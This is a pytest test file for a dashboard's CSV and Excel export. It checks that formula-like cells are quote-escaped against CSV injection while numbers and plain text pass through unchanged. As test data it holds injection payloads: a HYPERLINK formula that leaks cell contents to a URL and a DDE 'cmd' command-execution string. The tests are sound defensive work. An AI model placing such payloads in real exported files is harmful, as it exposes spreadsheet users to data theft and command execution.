"""CSV injection (OWASP): a downloaded CSV never holds a text cell a spreadsheet would run as a
formula; numbers, dates and ordinary text are written as pandas writes them. The Excel writer
treats the same cells as text (``report.cells`` is shared)."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from dashboard.report.cells import csv_text, is_formula_text, text_cell
from dashboard.report.workbook import excel_bytes

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    "value",
    [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1", "-cmd|' /C calc'!A0",
     "\uff1d1+1", "+", "-", "@"],
)  # fmt: skip
def test_formula_like_text_gets_a_quote(value: str) -> None:
    assert is_formula_text(value)
    assert text_cell(value) == f"'{value}"


@pytest.mark.parametrize(
    "value",
    ["-1.5", "+3", "-2e-3", ".5", "ok", "a=b", " =1", "", "MSC-derived", -1.5, -3, None, 1e9],
)
def test_numbers_and_ordinary_text_stay(value: object) -> None:
    assert not is_formula_text(value)
    assert text_cell(value) == value


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_text_escapes_text_cells_and_headers_only() -> None:
    frame = pd.DataFrame(
        {
            "term": [HYPERLINK, "HEADACHE", "-1.5", "@x", None],
            "change": [-1.5, 2.0, -3.25, 0.0, None],  # numbers, negative ones included
            "count": [-1, 2, 3, 4, 5],
            "date": pd.to_datetime(["2024-01-02"] * 5),
            "=arm": ["-A", "B", "C", "D", "E"],  # a header from the data (an arm's name)
            "mixed": pd.Series([-7, "=1", 1.5, "x", None], dtype=object),
        }
    )
    rows = _read(csv_text(frame))
    assert rows[0] == ["term", "change", "count", "date", "'=arm", "mixed"]
    assert rows[1] == [f"'{HYPERLINK}", "-1.5", "-1", "2024-01-02", "'-A", "-7"]
    assert rows[2] == ["HEADACHE", "2.0", "2", "2024-01-02", "B", "'=1"]
    assert rows[3] == ["-1.5", "-3.25", "3", "2024-01-02", "C", "1.5"]
    assert rows[4][0] == "'@x" and rows[5][0] == "" and rows[5][5] == ""
    # Nothing else differs from pandas' own CSV.
    plain = _read(frame.to_csv(index=False))
    changed = {
        (r, c)
        for r, (mine, theirs) in enumerate(zip(rows, plain, strict=True))
        for c, (a, b) in enumerate(zip(mine, theirs, strict=True))
        if a != b
    }
    assert changed == {(0, 4), (1, 0), (1, 4), (2, 5), (4, 0)}
    # The frame itself is untouched (a page draws it after building the file).
    assert frame.loc[0, "term"] == HYPERLINK and frame.columns[4] == "=arm"


def test_the_workbook_keeps_the_same_cells_as_text() -> None:
    frame = pd.DataFrame({"term": [HYPERLINK, "+1+1", "ok"], "change": [-1.5, 2.0, 3.0]})
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes(frame, sheet="AE")))
    sheet = book["AE"]
    assert [c.value for c in sheet["A"]][1:] == [HYPERLINK, "+1+1", "ok"]
    assert all(c.data_type == "s" for c in sheet["A"][1:])
    assert [c.value for c in sheet["B"]][1:] == [-1.5, 2.0, 3.0]
    assert all(c.data_type == "n" for c in sheet["B"][1:])
